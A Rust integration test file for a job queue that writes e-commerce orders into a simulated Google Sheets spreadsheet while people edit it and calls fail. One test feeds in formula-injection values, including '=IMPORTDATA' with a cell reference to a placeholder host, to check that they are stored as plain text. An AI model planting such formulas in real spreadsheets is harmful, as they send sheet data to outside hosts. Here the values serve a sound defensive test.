//! Orders on their way into a spreadsheet: from a job in the queue to the cells of the simulated Google, while
//! people work in the same tabs and calls fail.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use chrono::{DateTime, TimeDelta, Utc};
use chrono_tz::Tz;
use pushbox::clients::sheets::SheetsClient;
use pushbox::config::{QueueSettings, SheetsSettings};
use pushbox::domain::money::net_income;
use pushbox::domain::order::{Order, OrderIncome, OrderItem, OrderRef};
use pushbox::jobs::sheet::{SheetHandler, SheetOptions};
use pushbox::queue::plan::sheet_row;
use pushbox::queue::{QueueSpec, Runtime, Waker, enqueue};
use pushbox::simulator::state::google::{CellValue, GoogleChange};
use pushbox::simulator::{Action, Fault, Service, Simulator, SimulatorOptions};
use pushbox::store::orders::{upsert_income, upsert_order};
use serde_json::{Value, json, value::to_raw_value};
use sqlx::PgPool;
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

use crate::support::database::{TestDatabase, database};

const BOOK: &str = "book-1";
const WRITE: &str = ":batchUpdate";

/// A worker of the sheet queue beside a simulated Google.
struct Flow {
    database: TestDatabase,
    simulator: Simulator,
    waker: Waker,
    stop: CancellationToken,
    running: JoinHandle<()>,
}

impl Flow {
    async fn start() -> Self {
        Self::start_with(SheetOptions::default()).await
    }

    async fn start_with(options: SheetOptions) -> Self {
        let database = database().await;
        // A hundred times as fast, as are the calls per minute below.
        let world = SimulatorOptions { quota_scale: 100.0, ..SimulatorOptions::default() };
        let simulator = Simulator::start(world).await.expect("a simulator");
        simulator.add_spreadsheet(BOOK, "Shop");
        let settings = SheetsSettings {
            credentials: simulator.google_credentials_json().into(),
            api_url: Some(simulator.google_url()),
            calls_per_minute: 4800,
        };
        let client = Arc::new(SheetsClient::new(&settings).await.expect("a client"));
        let options = SheetOptions {
            ignore_statuses: vec!["UNPAID".to_owned()],
            timezone: Tz::Asia__Singapore,
            ..options
        };
        let clock = pushbox::clock::system();
        let handler = SheetHandler::new(database.pool.clone(), client, clock, options);
        let spec = QueueSpec::new(Arc::new(handler), 500, 2, Duration::from_mins(5)).exclusive();
        let waker = Waker::default();
        let runtime =
            Runtime::new(database.pool.clone(), &queue_settings(), "test", waker.clone(), vec![spec]);
        let stop = CancellationToken::new();
        let running = tokio::spawn(runtime.run(stop.clone()));
        Self { database, simulator, waker, stop, running }
    }

    fn pool(&self) -> &PgPool {
        &self.database.pool
    }

    /// Stores the orders and asks for their rows, as enrichment does.
    async fn put(&self, orders: &[Order]) {
        let mut transaction = self.pool().begin().await.expect("begin");
        for order in orders {
            let income = income(order);
            upsert_order(&mut transaction, order, &net_income(order, &income), None).await.expect("an order");
            upsert_income(&mut transaction, &income).await.expect("income");
        }
        let jobs = orders.iter().map(|order| sheet_row(BOOK, &order.reference, 3)).collect();
        enqueue(&mut transaction, jobs).await.expect("jobs");
        transaction.commit().await.expect("commit");
        self.waker.wake();
    }

    /// Until this query gives zero.
    async fn until_zero(&self, sql: &'static str) {
        let reached = async {
            while sqlx::query_scalar::<_, i64>(sql).fetch_one(self.pool()).await.expect(sql) != 0 {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        };
        if tokio::time::timeout(Duration::from_secs(20), reached).await.is_err() {
            let left: Vec<(String, i32, Option<String>, Option<String>)> =
                sqlx::query_as("SELECT state, attempt, last_error, waiting_on FROM pushbox.jobs LIMIT 3")
                    .fetch_all(self.pool())
                    .await
                    .expect("jobs");
            panic!("never zero: {sql}; left: {left:?}");
        }
    }

    /// Until there is nothing left to do.
    async fn settled(&self) {
        self.until_zero("SELECT count(*) FROM pushbox.jobs").await;
    }

    /// Until a job waits; for what, and how many attempts it was charged.
    async fn waiting(&self) -> (String, i32) {
        self.until_zero(
            "SELECT (count(*) = 0)::int::bigint FROM pushbox.jobs WHERE state = 'ready' AND waiting_on IS NOT NULL",
        )
        .await;
        sqlx::query_as("SELECT waiting_on, attempt FROM pushbox.jobs WHERE waiting_on IS NOT NULL LIMIT 1")
            .fetch_one(self.pool())
            .await
            .expect("a waiting job")
    }

    /// What an operator does who does not want to wait.
    async fn resume(&self) {
        for sql in [
            "UPDATE pushbox.destinations SET paused_until = NULL WHERE kind = 'sheet'",
            "UPDATE pushbox.jobs SET run_at = now() WHERE state = 'ready'",
        ] {
            sqlx::query(sql).execute(self.pool()).await.expect(sql);
        }
        self.waker.wake();
    }

    /// The history's notes and the attempts that were needed, and how many jobs had them.
    async fn history(&self) -> Vec<(String, i32, i64)> {
        sqlx::query_as(
            "SELECT coalesce(note, ''), attempt, count(*) FROM pushbox.job_history GROUP BY 1, 2 ORDER BY 1, 2",
        )
        .fetch_all(self.pool())
        .await
        .expect("history")
    }

    fn rows(&self, tab: &str) -> Vec<BTreeMap<String, String>> {
        self.simulator.sheet_rows(BOOK, tab)
    }

    /// One column of a tab, from the top.
    fn column(&self, tab: &str, name: &str) -> Vec<String> {
        self.rows(tab).iter().map(|row| row[name].clone()).collect()
    }

    fn row(&self, order_sn: &str) -> BTreeMap<String, String> {
        let mut found: Vec<_> =
            self.rows("Orders").into_iter().filter(|row| row["Order"] == order_sn).collect();
        assert_eq!(found.len(), 1, "rows of {order_sn}");
        found.remove(0)
    }

    /// Where a tab has a column.
    fn place(&self, tab: &str, name: &str) -> usize {
        let sheet = self.simulator.sheet(BOOK, tab).expect("a tab");
        let is_it = |cell: &_| matches!(cell, Some(CellValue::Text(text)) if text == name);
        sheet.rows[0].iter().position(|cell| is_it(&cell.value)).expect("a column")
    }

    fn sheet_id(&self, tab: &str) -> i64 {
        self.simulator.sheet(BOOK, tab).expect("a tab").sheet_id
    }

    /// A person changes the spreadsheet.
    fn person(&self, requests: &Value) {
        self.simulator.change(GoogleChange::Batch {
            id: BOOK.to_owned(),
            user: "person@example.com".to_owned(),
            requests: to_raw_value(requests).expect("JSON"),
            salt: 1,
        });
    }

    /// A person types into one cell, named in A1 notation.
    fn person_types(&self, range: &str, value: &str) {
        let data = json!([{"range": range, "values": [[value]]}]);
        self.simulator.change(GoogleChange::ValuesWritten {
            id: BOOK.to_owned(),
            user: "person@example.com".to_owned(),
            data: to_raw_value(&data).expect("JSON"),
            entered: true,
        });
    }

    fn calls(&self, part: &str) -> u64 {
        let is_it = |call: &str| call.starts_with("google") && call.contains(part);
        self.simulator.read(|world| world.calls.iter().filter(|(call, _)| is_it(call)).map(|(_, n)| n).sum())
    }

    /// Ends the test: no call may have been one that Google does not know.
    async fn finish(self) {
        assert_eq!(self.simulator.unknown_calls(), Vec::<String>::new());
        assert_eq!(self.simulator.faults_waiting(), Vec::<Fault>::new());
        self.stop.cancel();
        self.running.await.expect("the worker");
    }
}

fn queue_settings() -> QueueSettings {
    QueueSettings {
        max_attempts: 3,
        concurrency: 2,
        lease: Duration::from_secs(15),
        poll_interval: Duration::from_millis(20),
        retry_base: Duration::from_millis(1),
        retry_max: Duration::from_millis(5),
        shutdown_timeout: Duration::from_secs(5),
    }
}

fn start_of_time() -> DateTime<Utc> {
    "2026-04-01T02:03:00Z".parse().expect("an instant")
}

fn item(line_no: i32) -> OrderItem {
    OrderItem {
        line_no,
        item_id: 100 + i64::from(line_no),
        model_id: 0,
        sku: format!("00{line_no}"),
        name: format!("Item {line_no}"),
        variation: String::new(),
        quantity: 2,
        unit_price: "5.25".parse().expect("a price"),
    }
}

fn order(order_sn: &str, status: &str, lines: i32) -> Order {
    Order {
        reference: OrderRef { platform: "shopee".into(), shop_id: "77".into(), order_sn: order_sn.into() },
        status: status.into(),
        currency: "SGD".into(),
        region: "SG".into(),
        create_time: start_of_time(),
        update_time: start_of_time(),
        pay_time: None,
        ship_by: None,
        total_amount: Some("1234.50".parse().expect("an amount")),
        buyer_username: Some("buyer".into()),
        payment_method: Some("Card".into()),
        cod: false,
        shipping_carrier: Some("Ninja".into()),
        packages: Vec::new(),
        recipient: None,
        message_to_seller: None,
        note: None,
        cancel_by: None,
        cancel_reason: None,
        items: (0..lines).map(item).collect(),
        snapshot: Value::Null,
    }
}

/// The same order, some time later.
fn later(order: &Order, status: &str) -> Order {
    let update_time = order.update_time + TimeDelta::minutes(1);
    Order { status: status.into(), update_time, ..order.clone() }
}

fn income(order: &Order) -> OrderIncome {
    let zero = rust_decimal::Decimal::ZERO;
    OrderIncome {
        reference: order.reference.clone(),
        escrow_amount: "100.00".parse().expect("an amount"),
        buyer_total_amount: zero,
        commission_fee: "3.21".parse().expect("an amount"),
        service_fee: zero,
        transaction_fee: zero,
        buyer_paid_shipping_fee: zero,
        actual_shipping_fee: zero,
        voucher_from_seller: zero,
        voucher_from_platform: zero,
        items: Vec::new(),
        snapshot: Value::Null,
    }
}

#[tokio::test]
async fn the_first_orders_make_the_tabs_and_every_cell_has_its_type() {
    let flow = Flow::start().await;
    let mut strange = order("2604010000001", "READY_TO_SHIP", 60);
    strange.buyer_username = Some("=IMPORTDATA(\"http://x/\"&A1)".into());
    strange.message_to_seller = Some("+1 <b>&\"' \u{202e}עברית 😀".into());
    strange.note = Some("n".repeat(60_000));
    strange.items[0].name = "=HYPERLINK(\"http://x\")".into();
    flow.put(&[strange, order("B", "COMPLETED", 3), order("C", "UNPAID", 1)]).await;
    flow.settled().await;

    assert_eq!(flow.column("Orders", "Order"), ["2604010000001", "B"]);
    assert_eq!(flow.rows("Items").len(), 63);
    let row = flow.row("2604010000001");
    assert_eq!(row["Created"], "2026-04-01 10:03", "the wall clock of DISPLAY_TIMEZONE");
    assert_eq!((row["Total"].as_str(), row["Commission"].as_str()), ("1,234.50", "3.21"));
    assert_eq!((row["Paid"].as_str(), row["Notes"].as_str()), ("", ""));
    assert_eq!(row["Message"], "+1 <b>&\"' \u{202e}עברית 😀");
    assert_eq!(row["Seller note"].len(), 50_000);
    assert_eq!(row["Items"], "60");
    let total: f64 =
        flow.column("Items", "Net income")[..60].iter().map(|cell| cell.parse::<f64>().expect("money")).sum();
    assert!((total - 100.0).abs() < 1e-9, "the lines add up to the order: {total}");
    assert_eq!(row["Net"], "100.00");

    let orders = flow.simulator.sheet(BOOK, "Orders").expect("a tab");
    let items = flow.simulator.sheet(BOOK, "Items").expect("a tab");
    for sheet in [&orders, &items] {
        assert_eq!(sheet.frozen_row_count, 1);
        assert!(sheet.basic_filter.is_some());
        let cells = sheet.rows.iter().flat_map(|row| row.iter());
        let formulas = cells.filter(|cell| matches!(cell.value, Some(CellValue::Formula(_)))).count();
        assert_eq!(formulas, 0, "no text of a stranger is a formula");
    }
    let name = items.cell(1, flow.place("Items", "Item")).and_then(|cell| cell.value.clone());
    assert_eq!(name, Some(CellValue::Text("=HYPERLINK(\"http://x\")".into())));
    assert_eq!(
        flow.history().await,
        [("appended".into(), 1, 2), ("orders of its status get no row".into(), 1, 1)]
    );
    assert_eq!(flow.calls(WRITE), 2, "one to add the tabs, one for everything else");
    flow.finish().await;
}

#[tokio::test]
async fn a_change_updates_the_row_where_it_is_with_two_calls() {
    let flow = Flow::start().await;
    let orders: Vec<Order> = ["A", "B", "C"].map(|number| order(number, "READY_TO_SHIP", 2)).to_vec();
    flow.put(&orders).await;
    flow.settled().await;
    flow.put(&[later(&orders[1], "SHIPPED")]).await;
    flow.settled().await;
    let calls = flow.calls("");
    // Once there, a row follows its order into every status.
    flow.put(&[later(&orders[2], "UNPAID"), order("D", "UNPAID", 1)]).await;
    flow.settled().await;
    assert_eq!(flow.calls("") - calls, 2, "one read and one write");
    assert_eq!(flow.column("Orders", "Order"), ["A", "B", "C"]);
    assert_eq!(flow.column("Orders", "Status"), ["READY_TO_SHIP", "SHIPPED", "UNPAID"]);
    assert_eq!(flow.column("Items", "Status").len(), 6);
    assert_eq!(flow.column("Items", "Status")[2..4], ["SHIPPED", "SHIPPED"]);

    flow.put(&[later(&orders[1], "SHIPPED")]).await;
    flow.settled().await;
    assert_eq!(flow.calls("") - calls, 2, "what is unchanged needs no call");
    flow.finish().await;
}

#[tokio::test]
async fn hundreds_of_orders_go_in_one_write() {
    let flow = Flow::start().await;
    let orders: Vec<Order> = (0..400).map(|at| order(&format!("N{at:04}"), "SHIPPED", 3)).collect();
    flow.put(&orders).await;
    flow.settled().await;
    let numbers = flow.column("Orders", "Order");
    assert_eq!(numbers.len(), 400);
    assert!(numbers.is_sorted(), "in the order of their jobs");
    assert_eq!(flow.rows("Items").len(), 1_200, "more than the new tab had rows");
    assert_eq!(flow.column("Items", "Created")[1_199], "2026-04-01 10:03", "also there dates are dates");
    assert!(flow.calls(WRITE) <= 3, "{} writes", flow.calls(WRITE));
    flow.finish().await;
}

#[tokio::test]
async fn people_move_add_delete_and_sort_and_their_cells_stay() {
    let flow = Flow::start().await;
    let orders: Vec<Order> = ["A", "B", "C"].map(|number| order(number, "READY_TO_SHIP", 1)).to_vec();
    flow.put(&orders).await;
    flow.settled().await;

    let (id, carrier) = (flow.sheet_id("Orders"), flow.place("Orders", "Carrier"));
    let columns = |from: usize| json!({"sheetId": id, "dimension": "COLUMNS", "startIndex": from, "endIndex": from + 1});
    flow.person(&json!([
        // A column of their own in the middle of ours, ours in another order, and one of ours deleted.
        {"deleteDimension": {"range": columns(carrier)}},
        {"insertDimension": {"range": columns(2), "inheritFromBefore": true}},
        {"updateCells": {"start": {"sheetId": id, "columnIndex": 2}, "fields": "userEnteredValue", "rows": [
            {"values": [{"userEnteredValue": {"stringValue": "Packed by"}}]},
            {"values": [{"userEnteredValue": {"stringValue": "Ann"}}]},
            {"values": [{"userEnteredValue": {"stringValue": "Ben"}}]},
            {"values": [{"userEnteredValue": {"formulaValue": "=A4"}}]},
        ]}},
    ]));
    // They swap Buyer and Currency: the values follow with the next change of each order.
    let letters = [flow.place("Orders", "Buyer"), flow.place("Orders", "Currency")]
        .map(pushbox::clients::sheets::column_letters);
    flow.person_types(&format!("Orders!{}1", letters[0]), "Currency");
    flow.person_types(&format!("Orders!{}1", letters[1]), "buyer ");
    let notes = pushbox::clients::sheets::column_letters(flow.place("Orders", "Notes"));
    flow.person_types(&format!("Orders!{notes}3"), "call B");
    flow.person(&json!([{"sortRange": {
        "range": {"sheetId": id, "startRowIndex": 1, "endRowIndex": 4},
        "sortSpecs": [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}]}}]));

    let changed: Vec<Order> = orders.iter().map(|order| later(order, "SHIPPED")).collect();
    flow.put(&changed).await;
    flow.put(&[order("D", "SHIPPED", 1)]).await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Order"), ["C", "B", "A", "D"], "rows stay as they were sorted");
    assert_eq!(flow.column("Orders", "Status"), ["SHIPPED"; 4]);
    assert_eq!(flow.column("Orders", "Packed by"), ["=A4", "Ben", "Ann", ""]);
    assert_eq!(flow.column("Orders", "Notes"), ["", "call B", "", ""]);
    assert_eq!(flow.column("Orders", "buyer "), ["buyer"; 4]);
    assert_eq!(flow.column("Orders", "Currency"), ["SGD"; 4]);
    assert_eq!(flow.column("Orders", "Carrier"), ["Ninja"; 4], "it came back");
    assert_eq!(flow.place("Orders", "Carrier"), 28, "at the right");
    flow.finish().await;
}

#[tokio::test]
async fn a_deleted_row_returns_with_the_next_change_and_vanished_lines_are_blanked() {
    let flow = Flow::start().await;
    let (a, b) = (order("A", "READY_TO_SHIP", 3), order("B", "READY_TO_SHIP", 1));
    flow.put(&[a.clone(), b.clone()]).await;
    flow.settled().await;
    let rows = |tab: &str, row: usize| {
        let id = flow.sheet_id(tab);
        json!([{"deleteDimension": {"range":
            {"sheetId": id, "dimension": "ROWS", "startIndex": row, "endIndex": row + 1}}}])
    };
    flow.person(&rows("Orders", 1));
    flow.person(&rows("Items", 1));
    let items = flow.sheet_id("Items");
    flow.person(&json!([{"appendDimension": {"sheetId": items, "dimension": "COLUMNS", "length": 1}}]));
    flow.person_types("Items!O3", "beside the third line");
    let mut less = later(&a, "SHIPPED");
    less.items.pop();
    flow.put(&[less]).await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Order"), ["B", "A"]);
    assert_eq!(flow.column("Items", "Line"), ["2", "", "1", "1"]);
    assert_eq!(flow.column("Items", "Order"), ["A", "", "B", "A"]);
    let items = flow.simulator.sheet(BOOK, "Items").expect("a tab");
    let note = items.cell(2, 14).and_then(|cell| cell.value.clone());
    assert_eq!(note, Some(CellValue::Text("beside the third line".into())));
    flow.finish().await;
}

#[tokio::test]
async fn of_two_rows_of_one_order_the_topmost_is_kept_and_it_is_said() {
    let flow = Flow::start().await;
    let a = order("A", "READY_TO_SHIP", 1);
    flow.put(std::slice::from_ref(&a)).await;
    flow.settled().await;
    for (cell, value) in [("A3", "A"), ("B3", "shopee"), ("C3", "'77"), ("D3", "a copy")] {
        flow.person_types(&format!("Orders!{cell}"), value);
    }
    flow.put(&[later(&a, "SHIPPED")]).await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Status"), ["SHIPPED", "a copy"]);
    assert!(flow.history().await.iter().any(|(note, ..)| note == "updated; the order has several rows"));
    flow.finish().await;
}

#[tokio::test]
async fn an_answer_that_was_lost_after_the_write_makes_no_second_row() {
    let flow = Flow::start().await;
    // The tabs are added, and nobody learns it; then the rows are written, and nobody learns it.
    flow.simulator.script(Fault::once(Service::Google, WRITE, Action::Cut).after());
    flow.simulator.script(Fault::once(Service::Google, WRITE, Action::Html(502)).after());
    flow.put(&[order("A", "READY_TO_SHIP", 2), order("B", "SHIPPED", 1)]).await;
    flow.settled().await;
    let mut numbers = flow.column("Orders", "Order");
    numbers.sort();
    assert_eq!(numbers, ["A", "B"]);
    assert_eq!(flow.rows("Items").len(), 3);
    assert_eq!(flow.simulator.read(|world| world.google.spreadsheets[BOOK].sheets.len()), 3);
    // Jitter may bring the two back in different batches; whoever met the second fault finds its row there.
    let history = flow.history().await;
    assert_eq!(history.iter().map(|(.., jobs)| jobs).sum::<i64>(), 2, "{history:?}");
    assert!(history.iter().any(|(note, attempts, _)| note == "updated" && *attempts == 3), "{history:?}");
    flow.finish().await;
}

#[tokio::test]
async fn a_write_that_failed_is_tried_again() {
    let flow = Flow::start().await;
    flow.put(&[order("A", "READY_TO_SHIP", 2)]).await;
    flow.settled().await;
    flow.simulator.script(Fault::once(Service::Google, WRITE, Action::Html(503)));
    flow.simulator.script(Fault::once(Service::Google, "values:batchGet", Action::Cut));
    flow.put(&[order("B", "SHIPPED", 1)]).await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Order"), ["A", "B"]);
    flow.finish().await;
}

#[tokio::test]
async fn too_many_calls_pause_the_spreadsheet_and_charge_nothing() {
    let flow = Flow::start().await;
    flow.simulator.script(Fault::once(Service::Google, "/v4/", Action::RetryAfter(0)));
    flow.put(&[order("A", "READY_TO_SHIP", 1)]).await;
    let (reason, attempts) = flow.waiting().await;
    assert_eq!((reason.as_str(), attempts), ("spreadsheet book-1: too many calls to Google Sheets", 0));
    let calls = flow.calls("/v4/");
    flow.put(&[order("B", "READY_TO_SHIP", 1)]).await;
    flow.until_zero("SELECT count(*) FROM pushbox.jobs WHERE waiting_on IS NULL").await;
    assert_eq!(flow.calls("/v4/"), calls, "nobody calls while it is paused");
    flow.resume().await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Order").len(), 2);
    assert_eq!(flow.history().await, [("appended".into(), 1, 2)]);
    flow.finish().await;
}

#[tokio::test]
async fn what_a_person_has_to_mend_is_waited_for_with_the_remedy() {
    let flow = Flow::start().await;
    let a = order("A", "READY_TO_SHIP", 1);
    flow.simulator.unshare_spreadsheet(BOOK);
    flow.put(std::slice::from_ref(&a)).await;
    let (reason, attempts) = flow.waiting().await;
    assert!(reason.contains("share the spreadsheet with") && reason.contains("as Editor"), "{reason}");
    assert_eq!(attempts, 0);
    flow.simulator.add_spreadsheet(BOOK, "Shop");
    flow.resume().await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Order"), ["A"]);

    flow.person_types("Items!D1", "Zeile");
    flow.put(&[later(&a, "SHIPPED")]).await;
    let (reason, _) = flow.waiting().await;
    assert!(reason.contains("the tab Items has no column named Line"), "{reason}");
    assert_eq!(flow.column("Orders", "Status"), ["READY_TO_SHIP"], "nothing is guessed");
    flow.person_types("Items!D1", "Line");
    flow.resume().await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Status"), ["SHIPPED"]);

    flow.simulator.protect_tab(BOOK, "Orders");
    flow.put(&[later(&later(&a, "SHIPPED"), "COMPLETED")]).await;
    let (reason, _) = flow.waiting().await;
    assert!(reason.contains("to edit the protected cells"), "{reason}");
    flow.finish().await;
}

#[tokio::test]
async fn a_renamed_tab_is_followed_and_a_deleted_one_made_again() {
    let flow = Flow::start().await;
    let a = order("A", "READY_TO_SHIP", 1);
    flow.put(std::slice::from_ref(&a)).await;
    flow.settled().await;
    let (orders, items) = (flow.sheet_id("Orders"), flow.sheet_id("Items"));
    flow.person(&json!([
        {"updateSheetProperties":
            {"properties": {"sheetId": orders, "title": "Tom's #1/2"}, "fields": "title"}},
        {"deleteSheet": {"sheetId": items}},
    ]));
    flow.put(&[later(&a, "SHIPPED")]).await;
    flow.settled().await;
    assert_eq!(flow.column("Tom's #1/2", "Status"), ["SHIPPED"]);
    assert_eq!(flow.column("Items", "Status"), ["SHIPPED"]);
    assert!(flow.simulator.sheet(BOOK, "Orders").is_none());
    flow.finish().await;
}

#[tokio::test]
async fn who_wrote_without_a_lease_has_the_row_written_again() {
    let flow = Flow::start().await;
    let a = order("A", "READY_TO_SHIP", 1);
    flow.put(std::slice::from_ref(&a)).await;
    flow.settled().await;
    // The worker may write to Google, but not note it, before this ends.
    let mut held = flow.pool().begin().await.expect("begin");
    sqlx::query("LOCK TABLE pushbox.sheet_rows IN EXCLUSIVE MODE").execute(&mut *held).await.expect("a lock");
    flow.put(&[later(&a, "SHIPPED")]).await;
    let written = async {
        while flow.column("Orders", "Status") != ["SHIPPED"] {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    };
    tokio::time::timeout(Duration::from_secs(20), written).await.expect("the write");
    // Meanwhile the job went to somebody else, who is done with it, and a person broke the cell, which stands for
    // the newer state that the late write might have replaced.
    sqlx::query("DELETE FROM pushbox.jobs").execute(flow.pool()).await.expect("somebody was faster");
    let status = pushbox::clients::sheets::column_letters(flow.place("Orders", "Status"));
    flow.person_types(&format!("Orders!{status}2"), "broken");
    held.commit().await.expect("the worker goes on");
    flow.until_zero("SELECT (count(*) < 2)::int::bigint FROM pushbox.job_history").await;
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Status"), ["SHIPPED"]);
    flow.finish().await;
}

#[tokio::test]
async fn who_lost_the_lease_before_writing_writes_nothing() {
    let flow = Flow::start().await;
    flow.put(&[order("A", "READY_TO_SHIP", 1)]).await;
    flow.settled().await;
    let writes = flow.calls(WRITE);
    // The worker has looked and is about to append; by then somebody else has the job.
    let slow = Action::Slow(Duration::from_secs(1));
    flow.simulator.script(Fault::once(Service::Google, "values:batchGet", slow));
    let looks = flow.calls("values:batchGet");
    flow.put(&[order("B", "READY_TO_SHIP", 1)]).await;
    let looking = async {
        while flow.calls("values:batchGet") == looks {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    };
    tokio::time::timeout(Duration::from_secs(20), looking).await.expect("the look");
    sqlx::query(
        "UPDATE pushbox.jobs SET claim_id = gen_random_uuid(), lease_until = now() + interval '3 seconds'",
    )
    .execute(flow.pool())
    .await
    .expect("somebody else has it");
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Order"), ["A", "B"], "one row each");
    assert_eq!(flow.calls(WRITE), writes + 1, "only whoever had the lease wrote");
    flow.finish().await;
}

#[tokio::test]
async fn a_write_whose_writer_vanished_is_let_end_before_anybody_looks() {
    let flow = Flow::start().await;
    flow.put(&[order("A", "READY_TO_SHIP", 1)]).await;
    flow.settled().await;
    sqlx::query("UPDATE pushbox.destinations SET writing_since = now(), writing_claim = gen_random_uuid() WHERE kind = 'sheet'")
        .execute(flow.pool())
        .await
        .expect("somebody vanished");
    let calls = flow.calls("/v4/");
    flow.put(&[order("B", "READY_TO_SHIP", 1)]).await;
    let (reason, attempts) = flow.waiting().await;
    assert_eq!((reason.as_str(), attempts), ("an interrupted write to be over", 0));
    assert_eq!(flow.calls("/v4/"), calls, "nobody looks yet");
    flow.settled().await;
    assert_eq!(flow.column("Orders", "Order"), ["A", "B"]);
    let left = "SELECT count(*) FROM pushbox.destinations WHERE writing_since IS NOT NULL";
    flow.until_zero(left).await;
    flow.finish().await;
}

#[tokio::test]
async fn a_write_that_google_does_not_accept_is_halved_to_spare_the_others() {
    let flow = Flow::start().await;
    flow.put(&[order("A", "READY_TO_SHIP", 1)]).await;
    flow.settled().await;
    let body = json!({"error": {"code": 400, "status": "INVALID_ARGUMENT", "message": "Invalid value."}});
    let refusal = Action::Status { code: 400, body: body.to_string() };
    // The write of four, then that of the first two, then that of the first.
    flow.simulator.script(Fault::once(Service::Google, WRITE, refusal).times(3));
    flow.put(&["B", "C", "D", "E"].map(|number| order(number, "READY_TO_SHIP", 1))).await;
    flow.settled().await;
    let mut numbers = flow.column("Orders", "Order");
    numbers.sort();
    assert_eq!(numbers, ["A", "B", "C", "D", "E"]);
    assert_eq!(flow.history().await, [("appended".into(), 1, 4), ("appended".into(), 2, 1)]);
    flow.finish().await;
}

#[tokio::test]
async fn calls_are_spared_before_google_refuses_them() {
    let flow = Flow::start_with(SheetOptions { calls_per_minute: 1, ..SheetOptions::default() }).await;
    let mut newest = order("A", "READY_TO_SHIP", 1);
    flow.put(std::slice::from_ref(&newest)).await;
    flow.settled().await;
    // Ten reads may come at once. The first batch needs three of them, because nothing is known, and so does the
    // second, because the first made the columns.
    for _ in 0..5 {
        newest = later(&newest, "SHIPPED");
        flow.put(std::slice::from_ref(&newest)).await;
        flow.settled().await;
    }
    let calls = flow.calls("/v4/");
    flow.put(&[later(&newest, "COMPLETED")]).await;
    let (reason, attempts) = flow.waiting().await;
    assert_eq!((reason.as_str(), attempts), ("the budget of calls to Google Sheets", 0));
    assert_eq!(flow.calls("/v4/"), calls);
    assert_eq!(flow.column("Orders", "Status"), ["SHIPPED"]);
    flow.finish().await;
}
